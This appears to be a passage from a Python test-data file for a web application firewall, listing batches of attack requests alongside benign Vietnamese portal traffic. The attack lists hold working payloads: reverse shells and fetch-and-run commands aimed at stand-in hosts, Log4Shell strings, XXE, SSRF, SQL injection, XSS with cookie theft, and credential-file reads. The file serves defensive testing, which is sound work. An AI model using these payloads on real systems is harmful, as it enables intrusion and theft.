qr:file=%2e%2e/%2e%2e/%2e%2e/proc/self/cwd/config.php
"""),
("lfi-restricted-file", "batch 2: Linux FHS and Windows system file documentation; framework configuration file names", r"""
q:file=/etc/passwd%00
q:file=/etc/shadow%00.jpg
q:file=/proc/self/maps
q:file=/proc/1/environ
q:file=/var/log/nginx/error.log
q:file=/usr/local/apache2/conf/httpd.conf
q:file=C:\inetpub\logs\LogFiles\W3SVC1\u_ex261207.log
q:file=C:\Windows\repair\SAM
q:file=c:\windows\system32\config\system
q:file=C:\xampp\apache\conf\httpd.conf
q:file=/opt/tomcat/conf/server.xml
q:file=WEB-INF/classes/hibernate.cfg.xml
q:file=/etc/apache2/apache2.conf
q:file=/root/.ssh/authorized_keys
q:file=/home/www/.bashrc
q:file=/var/www/html/.env
q:file=/app/config/parameters.yml
q:file=/etc/crontab
q:file=/etc/sudoers
q:file=C:/ProgramData/MySQL/MySQL Server 8.0/my.ini
"""),
("command-injection", "batch 2: bash(1) expansions and quoting; cmd.exe and PowerShell documentation; OWASP WSTG-INPV-12", r"""
qr:host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd
qr:host=127.0.0.1%7Cid
qr:host=127.0.0.1%26%26type%20C%3A%5Cwindows%5Cwin.ini
qr:host=127.0.0.1%0Awhoami
qr:host=127.0.0.1%60id%60
qr:host=127.0.0.1%24%28id%29
q:host=x;/bin/ca? /etc/pas?wd
q:host=x;cat /etc/pa[s]swd
q:host=x;cat /etc/pass*
q:host=x;/usr/bin/who*mi
q:host=x;cat$u /etc$u/passwd$u
q:host=x;c${u}at /e${u}tc/pa${u}sswd
q:host=x;{ls,-la,/}
q:host=x;IFS=,;`cat<<<cat,/etc/passwd`
q:host=x;echo${IFS}$(id)
q:host=x;bash<<<id
q:host=x;sh</dev/tcp/203.0.113.9/80
q:host=x;$(echo${IFS}aWQ=|base64${IFS}-d)
q:host=x;echo 'id' | sh
q:host=x;`wget -qO- evil.example/s|sh`
q:host=x;/???/??t /???/p??s??
q:host=x&&dir /s /b C:\Users
q:host=x|type %SYSTEMROOT%\win.ini
q:host=x&set
q:host=x&FOR /L %i IN (1,1,10) DO ping 127.0.0.1
q:host=x&for /f "delims=" %i in ('type C:\windows\win.ini') do @echo %i
q:host=x|powershell -c "Get-Content C:\windows\win.ini"
q:host=x;powershell Invoke-WebRequest -Uri http://evil.example/a -OutFile a.exe
q:host=x|pwsh -EncodedCommand SQBFAFgA
q:host=x&cmd /v:on /c "set x=who&&set y=ami&&call %x%%y%"
q:host=x&ver
q:host=x&&net localgroup administrators
q:host=x;php -r 'system("id");'
q:host=x;ruby -e 'exec "id"'
q:host=x;lua -e 'os.execute("id")'
q:host=x;awk 'BEGIN{system("id")}'
q:host=x;find / -name '*.conf' -exec cat {} \;
q:host=x;xargs -a /etc/passwd echo
ua:() { :;}; /bin/cat /etc/shadow
ref:https://portal.example/?ip=127.0.0.1;id
"""),
("code-injection", "batch 2: PHP manual (variable functions, callbacks, assert, preg_replace /e, wrappers); Java reflection; Node vm and child_process; Python builtins", r"""
q:x=system ('id');
q:x=system/**/('id');
q:x=(system)('id');
q:x="sys"."tem"('id');
q:x=$a='sys'.'tem';$a('id');
q:x=array_map('system',array('id'))
q:x=usort($_GET,'system')
q:x=<?php $_GET['a']($_GET['b']);
q:x=<?PHP echo shell_exec($_GET['c']);
q:x=<? system('id'); ?>
q:x=<script language="php">system('id');</script>
q:x=${system('id')}
q:x={${phpinfo()}}
q:x=str_rot13('flfgrz')('id')
q:x=file_get_contents('http://evil.example/s.txt')
q:x=fopen('/etc/passwd','r')
q:x=php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd
q:x=compress.zlib://file:///etc/passwd
q:x=${Runtime.getRuntime().exec('id')}
q:x=''.getClass().forName('java.lang.Runtime')
q:x=org.apache.commons.collections.functors.InvokerTransformer
q:x=com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl
q:x=<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>
q:x=aced00057372
q:x=require('vm').runInNewContext('this.constructor.constructor("return process")()')
q:x=require("child_process").spawn("sh")
q:x=process.binding('spawn_sync')
q:x=new Function('return process')()
q:x=__import__("subprocess").check_output("id",shell=True)
q:x=globals()['__builtins__']['eval']('1+1')
q:x=open('/etc/passwd').read()
q:x=import os; os.system('id')
"""),
("template-injection", "batch 2: Jinja2/Twig/Handlebars/Velocity/Pebble/Thymeleaf documentation; PortSwigger SSTI", r"""
q:name={{''.__class__.__base__.__subclasses__()[408]('id',shell=True,stdout=-1).communicate()}}
q:name={{ request.__class__ }}
q:name={{ get_flashed_messages.__globals__ }}
q:name={{url_for.__globals__['current_app'].config}}
q:name={{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}
q:name={{this.constructor.constructor('return process')()}}
q:name=#set($e="e")$e.getClass().forName("java.lang.Runtime")
q:name={{ variable.getClass().forName('java.lang.Runtime') }}
q:name=${''.getClass().forName('java.lang.Runtime').getRuntime()}
q:name=${7*'7'}
q:name={{7|add:7}}
q:name={{ 7 * 7 }}
q:name=<%= `id` %>
q:name=${@java.lang.Runtime@getRuntime().exec("id")}
q:name={{app.request.server.all|join(',')}}
"""),
("log4shell", "batch 2: Log4j 2 lookup documentation (env, sys, ctx, main, lower/upper, default values); CVE-2021-44228 obfuscation write-ups", r"""
q:x=${${lower:jnd}${lower:i}:ldap://evil.example/a}
q:x=${${::-${::-$${::-j}}}}
q:x=${jndi:${lower:ld}${upper:a}p://evil.example/a}
q:x=${${env:ENV_NAME:-j}${env:ENV_NAME:-n}${env:ENV_NAME:-d}${env:ENV_NAME:-i}:ldap://evil.example/a}
q:x=${${lower:${lower:j}}ndi:ldap://evil.example/a}
q:x=$%7Bjndi:ldap://evil.example/a%7D
ua:${${::-j}ndi:rmi://evil.example/a}
ua:${jndi:ldap://evil.example:1389/${sys:java.version}}
ref:https://portal.example/?x=${jndi:dns://evil.example/r}
q:x=${ctx:loginId}${jndi:ldap://evil.example/a}
q:x=${jndi:ldap://[::1]:1389/a}
q:x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D
"""),
("ssrf", "batch 2: OWASP SSRF Prevention Cheat Sheet; RFC 3986; cloud metadata docs (Oracle, DigitalOcean, OpenStack)", r"""
q:url=http://169.254.169.254/opc/v1/instance/
q:url=http://169.254.169.254/metadata/v1.json
q:url=http://169.254.169.254/openstack/latest/meta_data.json
q:url=http://[::ffff:a9fe:a9fe]/
q:url=http://0x7f.0x0.0x0.0x1/
q:url=http://0177.0.0.1/
q:url=http://127.000.000.001/
q:url=http://localhost%2523@portal.example/
q:url=http://127.0.0.1:25/%0d%0aHELO%20x
q:url=http://[::]:6379/
q:url=https://portal.example.127.0.0.1.nip.io/
q:url=gopher://localhost:3306/_%a3%00%00%01
q:url=http://192.168.0.1:8080/manager/html
q:url=netdoc:///etc/passwd
q:url=http://localhost/server-status
"""),
("xxe", "batch 2: OWASP XXE Prevention Cheat Sheet; XML 1.0 DTD syntax", r"""
q:xml=<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/?%26file;">]>
q:xml=<!DOCTYPE foo [<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]>
q:xml=<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE a SYSTEM "file:///etc/passwd">
q:xml=<!DOCTYPE x [ <!ENTITY % local SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"> %local; ]>
q:xml=<!DOCTYPE test [<!ENTITY % init SYSTEM "data://text/plain;base64,ZmlsZTovLy9ldGMvcGFzc3dk"> %init; ]>
q:xml=<!ENTITY xxe SYSTEM "file:///c:/boot.ini">
"""),
("prototype-pollution", "batch 2: PortSwigger prototype pollution (query, JSON, constructor.prototype); qs and lodash advisories", r"""
qr:__proto__%5BisAdmin%5D=true
qr:a%5B__proto__%5D%5Bb%5D=c
qr:constructor.prototype.isAdmin=1
qr:__proto__[innerHTML]=<img/src/onerror=alert(1)>
q:data={"__proto__":{"status":510}}
qr:__proto__.json%20spaces=10
qr:__proto__[exposedHeaders]=foo
q:obj={"constructor": {"prototype": {"shell": "node"}}}
"""),
("ldap-xpath-nosql-injection", "batch 2: RFC 4515 filter syntax; XPath 1.0; MongoDB operators", r"""
q:user=*)(&(objectClass=user)
q:user=admin)(|(objectclass=*)
q:user=*)(mail=*))%00
qr:username[$ne]=null&password[$ne]=null
qr:username=admin&password[%24regex]=.*
q:q={"username":{"$regex":"^a"}}
q:q=' or 1=1 or ''='
q:q=//user[name/text()='admin' or '1'='1']/password
"""),
("crlf-injection", "batch 2: RFC 9112 message syntax; HTTP response splitting", r"""
qr:lang=en%0d%0aX-Forwarded-For:%20127.0.0.1
qr:page=x%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E
qr:next=%0D%0ASet-Cookie:%20PHPSESSID=evil
p:/redirect?url=%0d%0aLocation:%20https://evil.example
qr:x=%u000d%u000aSet-Cookie:%20a=b
"""),
("protocol-abuse", "batch 2: RFC 9110/9112 (methods, versions, request target forms); CWE-158", r"""
qr:file=report.php%00.pdf
p:/index.php%00
p:/%00/etc/passwd
qr:q=%uff1cscript%uff1e
qr:x=%u0025
m:HEAD /index.php HTTP/1.0 HTTP/1.1

m:PROPPATCH /webdav/x.txt HTTP/1.1
m:LOCK /webdav/x.txt HTTP/1.1
m:GET /?x=%C0%BCscript%C0%BE HTTP/1.1
"""),
("session-fixation", "batch 2: OWASP Session fixation; PHP session.use_trans_sid documentation", r"""
qr:PHPSESSID=1234567890abcdef1234567890abcdef
qr:page=1&JSESSIONID=F00D1234BEEF
q:x=<script>document.cookie="PHPSESSID=abc"</script>
"""),
("scanner-ua", "batch 2: scanner default User-Agent strings from their documentation", r"""
ua:sqlmap/1.8#stable (https://sqlmap.org)
ua:Nikto
ua:Mozilla/5.0 (compatible; Nuclei - Open-source project)
ua:masscan-ng/1.3
ua:Mozilla/5.0 (compatible; Wappalyzer)
ua:Mozilla/5.0 (compatible; WPScan)
ua:DirBuster-0.12 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)
ua:Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1) Nessus
"""),
("secret-backup-probe", "batch 2: OWASP WSTG-CONF-04/05; editor, IDE, package-manager and CI file names from their documentation", r"""
p:/.vscode/settings.json
p:/.idea/dataSources.xml
p:/.project
p:/.settings/org.eclipse.wst.common.component
p:/Dockerfile
p:/package.json
p:/composer.lock
p:/Gemfile.lock
p:/.gitignore
p:/.mysql_history
p:/.bashrc
p:/.ssh/authorized_keys
p:/backup/db_backup.sql
p:/old/index.php.bak
p:/index.php~
p:/wp-config.php.save
p:/config.php.swp
p:/www.tar.gz
p:/portal.rar
p:/database.sql.zip
p:/phpMyAdmin/setup/index.php
p:/myadmin/scripts/setup.php
p:/administrator/
p:/wp-login.php
p:/solr/admin/info/system
p:/debug/pprof/
p:/.env.local
p:/.git/index
p:/.svn/pristine/
p:/_wpeprivate/config.json
"""),
("webshell", "batch 2: web shell write-ups (China Chopper, Godzilla, Behinder), OWASP Unrestricted File Upload", r"""
p:/uploads/images/x.php;.jpg
p:/upload/avatar/1.jsp
p:/files/upload/s.aspx
p:/wp-content/uploads/2026/12/cache.php
p:/images/shell.php?cmd=whoami
p:/tmp/x.phar
p:/uploads/a.PhP
p:/attachments/x.asp;jpg
"""),
]

# Second batch of benign requests, written to put the wider rules of round two under pressure:
# ordinary files in upload folders, words that name PHP/shell functions, dollar signs, template
# placeholders, session-like parameter names that are not session ids, manifests that are pages.
BENIGN += [
("odd-but-legit-2", "batch 2: portal uploads, CMS placeholders, shop and forum values, OAuth and analytics parameters", r"""
p:/uploads/2026/12/quyet-dinh-123.pdf
p:/upload/anh-dai-dien/nguyen-van-a.jpg
p:/wp-content/uploads/2026/11/banner-tet-2027.png
p:/attachments/bieu-mau-dang-ky.docx
p:/tmp-assets/loader.gif
p:/files/huong-dan-nop-ho-so.pdf
q:tpl=Xin chào {{ten}}, hồ sơ {{ma_ho_so}} đã được tiếp nhận
q:msg=Hello {name}, your code is {code}
q:subject=Re: [Ticket #123] system error (new)
q:q=exec summary (draft)
q:q=system requirements
q:q=eval (2026) report
q:q=php tutorial for beginners
q:q=linux cat command
q:q=how to use ping
q:q=whoami meaning
q:q=net user guide
q:q=id card renewal
q:q=ls -la explained
q:q=bash scripting course
q:q=powershell for beginners
q:price=$1,299.00
q:note=Save $50 today; limited offer
q:q=US$ to VND
q:session_state=7f3a9c1d-22e4-4c8e-b3f1-0c9d2f7e8a11
q:sessionTimeout=30
q:session=morning
q:sid=survey-2026-q4
q:q=constructor of a class in java
q:q=prototype design pattern
q:q=proto buffers
q:q=__init__ method python
q:q=template literal ${name}
q:q=jndi tutorial
q:q=ldap login not working
q:q=what is ssrf
q:q=xss prevention
q:q=sql injection training course
q:q=union select in sql tutorial
q:q=etc passwd file permissions
q:q=C: drive full
q:q=windows 11 update
q:q=file:// links in chrome
q:url=https://www.youtube.com/watch?v=dQw4w9WgXcQ
q:link=https://www.facebook.com/ubnd.tinh
q:share=https://zalo.me/1234567890
q:image=https://cdn.example.gov.vn/anh/2026/12/a.jpg
q:webhook=https://hooks.slack.com/services/T000/B000/XXXX
q:callback_url=https://dichvucong.example.gov.vn/thanh-toan/ket-qua
q:q=1+1=2
q:q=a=b
q:q=x>0
q:q=3*4
q:q=(a+b)^2
q:q=100/3
q:body=@john thanks!
q:q=info@example.gov.vn
q:q=phòng 302; tầng 3
q:q=Hồ Chí Minh | Hà Nội
q:q=đường 3/2
q:q=1/2 ngày
q:ma=000.00.01.H01|2026
q:q=~/.profile
q:comment=Trang web rất "hữu ích" -- cảm ơn!
q:comment=Tôi đã nộp lúc 8:00 & nhận lúc 9:00
q:comment=Mã lỗi: ERR_500 (server)
p:/package-tracking?code=VN123456789
p:/composer/tin-tuc/nhac-si-van-cao.html
p:/docker/huong-dan.html
p:/settings
p:/project/du-an-dau-tu-cong
p:/backup-policy.html
p:/old-town-hoi-an.jpg
p:/api/v1/session/refresh
p:/connect/token
p:/env/thong-tin-moi-truong
m:POST /api/v1/uploads HTTP/1.1
m:PUT /api/v1/files/123 HTTP/2.0
ua:Mozilla/5.0 (compatible; Google-Read-Aloud; +https://support.google.com/webmasters/answer/1061943)
ua:Mozilla/5.0 (compatible; Zalo/1.0; +https://zalo.me)
ua:WhatsApp/2.24.1.6 A
ua:TelegramBot (like TwitterBot)
ref:https://www.google.com/search?q=%22select%22+t%E1%BB%89nh+th%C3%A0nh
ref:https://dichvucong.example.gov.vn/dang-nhap?returnUrl=%2Fdvc%2Fho-so
"""),
]

# Third batch, written after round two and measured before round three.
ATTACKS += [
("sqli", "batch 3: PostgreSQL casts and dollar quoting, MSSQL stacked queries, MySQL hex/char encodings, Oracle packages (vendor manuals)", r"""
q:id=1::int
q:id=1' AND 1=CAST(pg_read_file('/etc/passwd') AS int)--
q:id=1';SELECT $$x$$||pg_sleep(5)--
q:id=1 AND 1=(SELECT 1 FROM pg_stat_activity)
q:id=1' AND (SELECT CHAR(113)+CHAR(118))='qv
q:id=CHAR(0x61)+CHAR(0x64)
q:id=1 AND UNHEX(HEX(user()))
q:id=1 AND (SELECT * FROM (SELECT NAME_CONST(version(),1),NAME_CONST(version(),1))a)
q:id=1'; WAITFOR DELAY '00:00:10';--
q:id=1;exec('sel'+'ect 1')
q:id=1 AND 1=dbms_xmlgen.getxml('select user from dual')
q:id=1' AND 1=(SELECT UTL_HTTP.REQUEST('http://evil.example/'||user) FROM dual)--
q:id=1 || (SELECT sqlite_version())
q:id=1 AND 2>1
q:user=admin' or 1#
q:user=' OR 'x'='x'#
q:pass=' or ''<'1
q:id=1 RLIKE SLEEP(5)
q:id=1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)
q:id=1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)--
q:id=1 INTO DUMPFILE '/tmp/x'
q:id=1;SELECT LO_IMPORT('/etc/passwd')
q:col=IF(1=1,name,price)
q:sort=name;--
ua:1' AND SLEEP(5)#
ref:https://portal.example/?q=') UNION SELECT NULL,NULL--
"""),
("xss", "batch 3: HTML5 elements and handlers, SVG/MathML namespaces, data: and vbscript: URIs (WHATWG HTML, OWASP cheat sheet)", r"""
q:q=<dialog open onclose=alert(1)>
q:q=<form><button formaction=javascript:alert(1)>x
q:q=<iframe src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>
q:q=<img src=x onerror=import('//evil.example/x.js')>
q:q=<svg><discard onbegin=alert(1)>
q:q=<body onresize=alert(1)>
q:q=<video poster=javascript:alert(1)//></video>
q:q=<frameset onload=alert(1)>
q:q=<script>location='//evil.example/?'+document.cookie</script>
q:q=%3Csvg%20onload%3Dalert(1)%3E
q:q="><svg/onload=confirm(1)>
q:q=';alert(String.fromCharCode(88,83,83))//
q:q=<img src=`x`onerror=alert(1)>
q:q=<object data=javascript:alert(1)>
q:q=<img src=x onerror=this.src='//evil.example/?'+document.cookie>
q:q=<svg><style>@import'//evil.example/x'</style>
q:q=&#60;script&#62;alert(1)&#60;/script&#62;
q:q=<a href="vbscript:msgbox(1)">x</a>
q:q=</textarea><script>alert(1)</script>
q:q=<style>*{background:url('javascript:alert(1)')}</style>
"""),
("path-traversal", "batch 3: traversal in REST path segments and archive names (zip slip), Windows UNC and ADS forms", r"""
p:/api/v1/files/..%2f..%2f..%2fetc%2fpasswd
p:/api/v1/files/%2e%2e%2f%2e%2e%2fapp%2fconfig.json
q:name=../../../../../../tmp/evil.sh
q:archive_entry=../../../var/www/html/s.php
q:file=\\?\C:\Windows\win.ini
q:file=C:\inetpub\wwwroot\web.config::$DATA
q:file=index.php::$DATA
p:/static/..%252f..%252f..%252fetc/passwd
p:/%2e%2e/%2e%2e/%2e%2e/%2e%2e/windows/win.ini
q:file=file/../../../../etc/passwd
"""),
("command-injection", "batch 3: PowerShell cmdlets and switches (Microsoft Learn), bash process substitution and here-strings, busybox and IoT shells", r"""
q:host=x;Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example/a')
q:host=x|iex(iwr http://evil.example/a -UseBasicParsing)
q:host=x&powershell -ExecutionPolicy Bypass -File \\203.0.113.9\s\a.ps1
q:host=x&Start-Process calc.exe
q:host=x|Get-ChildItem C:\Users -Recurse
q:host=x;[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('aWQ='))
q:host=x&powershell -w hidden -nop -c "IEX $env:x"
q:host=x;cat <(id)
q:host=x;bash -c "$(curl -fsSL evil.example/i.sh)"
q:host=x;busybox wget http://203.0.113.9/b -O- | sh
q:host=x;tftp -g -r b 203.0.113.9
q:host=x;curl -d @/etc/passwd http://evil.example/
q:host=x;ncat 203.0.113.9 4444 -e /bin/bash
q:host=x;socat exec:'bash -li',pty,stderr tcp:203.0.113.9:4444
q:host=x;openssl s_client -quiet -connect 203.0.113.9:443|/bin/sh
q:host=x;telnet 203.0.113.9 23 | /bin/sh | telnet 203.0.113.9 24
q:host=x;echo YmFzaCAtaQ==|base64 -d|bash
q:host=x&&copy \\203.0.113.9\s\nc.exe %TEMP%\nc.exe
q:host=x&rundll32.exe javascript:"\..\mshtml,RunHTMLApplication"
q:host=x&mshta http://evil.example/a.hta
q:host=x&regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll
q:host=x&wmic process call create "cmd /c whoami"
q:host=x&bitsadmin /transfer j http://evil.example/a.exe C:\a.exe
q:host=x&reg query HKLM\SAM
q:host=x;id>/tmp/o
"""),
("code-injection", "batch 3: PHP network and callback functions, Ruby/Perl evaluation, Java reflection (language manuals)", r"""
q:x=fsockopen('203.0.113.9',4444)
q:x=curl_exec(curl_init('http://evil.example/'))
q:x=array_filter(array('id'),'system')
q:x=register_shutdown_function('system','id')
q:x=ob_start('system');echo 'id';
q:x=$_SERVER['HTTP_X'](1)
q:x=${$_GET['a']}
q:x=<?php @eval($_POST['pass']);?>
q:x=eval(gzinflate(base64_decode('S0zJT9ZQSFRIVqhRSFSoBgA=')))
q:x=system($_GET['c'])
q:x=Runtime.getRuntime().exec(new String[]{"sh","-c","id"})
q:x=java.lang.Class.forName("java.lang.Runtime").getMethod("exec",String.class)
q:x=ScriptEngineManager().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec('id')")
q:x=eval(request.params.x)
q:x=open("|id")
q:x=`id`.to_s
q:x=Object.const_get('Kernel').system('id')
q:x=exec('import os;os.popen("id")')
"""),
("template-injection", "batch 3: Velocity, Pebble, Mako, Tornado and Razor syntax from their manuals", r"""
q:name=#set($r=$x.class.forName('java.lang.Runtime'))$r.getRuntime().exec('id')
q:name={% set x = 7*7 %}{{x}}
q:name=${self.module.cache.util.os.system("id")}
q:name={{handler.settings}}
q:name=@System.IO.File.ReadAllText("C:\\windows\\win.ini")
q:name={{ ''.__class__.__mro__[2].__subclasses__() }}
q:name={{"".getClass().forName("java.lang.Runtime").getRuntime().exec("id")}}
q:name=${__import__('os').popen('id').read()}
"""),
("log4shell", "batch 3: Log4j lookups in headers and paths", r"""
ua:${jndi:ldap://evil.example/${env:HOSTNAME}}
ref:${${lower:j}ndi:ldap://evil.example/r}
pe:/api/${${::-j}ndi:rmi://evil.example/p}
q:x=${${env:X:-j}${env:X:-n}di:ldap://evil.example/a}
q:x=%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D
"""),
("ssrf", "batch 3: SSRF through URL parameters of image, PDF and webhook features (PortSwigger SSRF)", r"""
q:img=http://169.254.169.254/latest/meta-data/
q:pdf=http://127.0.0.1:8080/internal/report
q:callback=http://[::1]/admin
q:target=http://metadata/computeMetadata/v1/
q:endpoint=http://192.168.10.5:9200/_cat/indices
q:proxy=socks5://127.0.0.1:1080
q:src=http://0x0a000001/
q:uri=http://127.0.0.1:11211
"""),
("xxe", "batch 3: XXE through SVG, DOCX and SOAP parameters", r"""
q:data=<?xml version="1.0"?><!DOCTYPE data [<!ENTITY file SYSTEM "file:///etc/hostname">]><data>&file;</data>
q:svg=<?xml version="1.0" standalone="yes"?><!DOCTYPE test [ <!ENTITY xxe SYSTEM "file:///etc/hostname" > ]><svg>&xxe;</svg>
q:xml=<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/evil.dtd"> %xxe;]>
"""),
("secret-backup-probe", "batch 3: framework and service files from their documentation (Symfony, Rails, Django, Spring Boot, Node)", r"""
p:/app_dev.php/_profiler/
p:/config/secrets.yml
p:/settings.py
p:/application.properties
p:/application.yml
p:/actuator/configprops
p:/.env.backup
p:/.env.example
p:/server.js.map
p:/.git/refs/heads/master
p:/.svn/text-base/index.php.svn-base
p:/WEB-INF/classes/application.properties
p:/.well-known/../.env
p:/api/swagger-ui.html
p:/phpinfo
p:/test.php
p:/install.php
p:/setup.php
p:/admin/config.php
p:/wp-config.bak
"""),
("scanner-ua", "batch 3: more tool User-Agents (Nikto variants, sqlmap with random agents disabled, scanners' default strings)", r"""
ua:Mozilla/5.0 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)
ua:sqlmap/1.6.12#stable (http://sqlmap.org)
ua:Mozilla/5.0 (compatible; Nuclei)
ua:gobuster/3.1.0
ua:Mozilla/5.0 (X11; Linux x86_64) ZAP/2.14
"""),
("protocol-abuse", "batch 3: request-line anomalies (RFC 9112)", r"""
m:GET /../../../../etc/passwd HTTP/1.1
m:GET /index.html?a=%0d%0aX:%20y HTTP/1.1
m:GET /%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.0
m:POST /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1
m:GET /?%00 HTTP/1.1
"""),
]
BENIGN += [
("odd-but-legit-3", "batch 3: more ordinary portal traffic (forms, APIs, static files, bots) that uses keywords and punctuation rules look for", r"""
q:q=powershell get-childitem example
q:q=how to set execution policy
q:q=invoke web request vs curl
q:q=bash vs zsh
q:q=windows cmd dir command
q:q=template engine jinja2
q:q=log4j vulnerability 2021
q:q=what is ${jndi}
q:q=proto://
q:q=xml doctype html
q:q=<!DOCTYPE html>
q:q=javascript: void(0)
q:q=alert box css
q:q=onload event
q:q=script writer jobs
q:q=select box html
q:q=drop-down menu
q:q=update 2026-12-07
q:q=insert image in word
q:q=backup files windows
q:q=.env file example
q:q=git config user name
q:q=admin login problem
q:q=phpmyadmin là gì
q:q=web.config là gì
q:q=etc.
q:q=i/o error
q:q=TCP/IP
q:q=and/or
q:q=AT&T
q:q=@home
q:q=#tag1 #tag2
q:q=50% + 10%
q:q=a & b | c
q:q=1; 2; 3
q:q=`code`
q:q=$HOME
q:q=~user
q:q=*.pdf
q:q=??
q:q=!important
q:q=[1,2,3]
q:q={a:1}
q:q=(1)
q:q=<br>
q:q=a--b
q:q=it''s
q:title=Thông báo: "Lịch tiếp công dân" (tháng 12/2026)
q:desc=Giá 1.000.000đ; ưu đãi 10% -> còn 900.000đ
q:addr=123/45 Lê Lợi, P. Bến Nghé, Q.1, TP.HCM
q:search=ngày 01/01/2027 – 31/01/2027
q:email=tran.thi.b+ho-so@example.com.vn
q:phone=+84-28-3829-1234
q:code=HS-2026/12/0001
q:ref=CV số 123/UBND-VP
q:redirect=/vi/dich-vu-cong
q:next=%2Fho-so%3Fpage%3D2
q:return_to=https://dichvucong.example.gov.vn/ho-so
p:/api/v1/search?q=t%C3%AAn%20ng%C6%B0%E1%BB%9Di%20d%C3%B9ng&limit=10&offset=0
p:/wp-admin/admin-ajax.php?action=heartbeat
p:/wp-login.php?redirect_to=%2Fwp-admin%2F&reauth=1
p:/index.php?option=com_users&view=login
p:/xmlrpc.php?rsd
p:/feed/
p:/?s=th%E1%BB%A7+t%E1%BB%A5c
p:/?p=123
p:/?page_id=45&lang=en
p:/en/search?q=visa+on+arrival
p:/api/v1/documents/2026/12/07/123.pdf?download=1
p:/portal/images/icons/pdf.svg
p:/static/fonts/fa-solid-900.woff2?v=6.5.1
m:GET /health HTTP/1.1
m:GET /status HTTP/1.1
m:GET /api/health/ready HTTP/2.0
m:POST /api/v1/upload?filename=bao-cao.xlsx HTTP/1.1
m:DELETE /api/v1/session HTTP/1.1
ua:Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko
ua:Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)
ua:Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)
ua:Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)
ua:Googlebot-Image/1.0
ua:Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36 (compatible; GoogleOther)
ua:Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36
ua:Lighthouse
ua:node-fetch/1.0 (+https://github.com/bitinn/node-fetch)
ua:Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36
ref:https://www.google.com/url?q=https://portal.example.gov.vn/&sa=U
ref:https://portal.example.gov.vn/search?q=%22union%22+c%C3%B4ng+%C4%91o%C3%A0n
ref:https://www.facebook.com/groups/123/?ref=share&mibextid=abc
"""),
]

# Fourth batch (SQL injection, XSS, shell and PHP: the bulk of any WAF's attack tests), written
# after round three and measured before round four.
ATTACKS += [
("sqli", "batch 4: SQL grammar of MySQL/MSSQL/PostgreSQL/Oracle/SQLite manuals; PortSwigger SQLi cheat sheet; OWASP SQLi Prevention Cheat Sheet", r"""
q:id=1 or 1=1
q:id=1' or 1=1 limit 1 -- -+
q:id=' or 1 -- -
q:id=1 or 'a'='a'
q:id=1' or 'a'<>'b
q:id=a' or 3 between 1 and 5 --
q:id=x' or 1 in (1) --
q:id=x' or name is not null --
q:id=x') or ('a' like 'a
q:id=1 and 1=0 union all select null,null,null
q:id=1; select * from users
q:id=1; insert into log values (1)
q:id=1; delete from users --
q:id=1; update users set password='x'
q:id=1; exec sp_addlogin 'x','y'
q:id=1; declare @a int
q:id=1 and (select count(*) from sysobjects)>0
q:id=1 and @@version>0
q:id=1 and current_user='dbo'
q:id=1 and version() like '8%'
q:id=1 and database()='portal'
q:id=1 and user() like 'root%'
q:id=1 and length(database())=6
q:id=1 and ascii(substring(user(),1,1))=114
q:id=1 and mid(version(),1,1)=8
q:id=1 and ord(mid(user(),1,1))>0
q:id=1 and 1=(select 1 from dual where 1=1)
q:id=1 and exists(select * from users)
q:id=1 and (select top 1 name from sys.databases)='master'
q:id=1 group by 1,2,3 having 1=1
q:id=1 order by 1 asc, 2 desc --
q:id=1 limit 1 offset 0 union select 1
q:id=1 and sleep(3)
q:id=1 and benchmark(1000000,sha1(1))
q:id=1 waitfor delay '0:0:3'
q:id=1 and pg_sleep(3) is null
q:id=1' || pg_sleep(3) || '
q:id=1 and 1=convert(int,(select top 1 table_name from information_schema.tables))
q:id=1 and 1=cast(@@version as int)
q:id=1 and extractvalue(rand(),concat(0x3a,(select version())))
q:id=1' and updatexml(null,concat(0x0a,version()),null)-- -
q:id=1 union select concat(username,':',password) from users
q:id=1 union select group_concat(table_name) from information_schema.tables where table_schema=database()
q:id=1 union select load_file(0x2f6574632f686f737473)
q:id=1 into outfile '/var/www/html/x.txt'
q:id=1 and 0x61646d696e=0x61646d696e
q:id=1 and char(97)=char(97)
q:id=1 and 'a'=concat('a')
q:id=1 and hex('a')='61'
q:id=admin'/**/or/**/1=1#
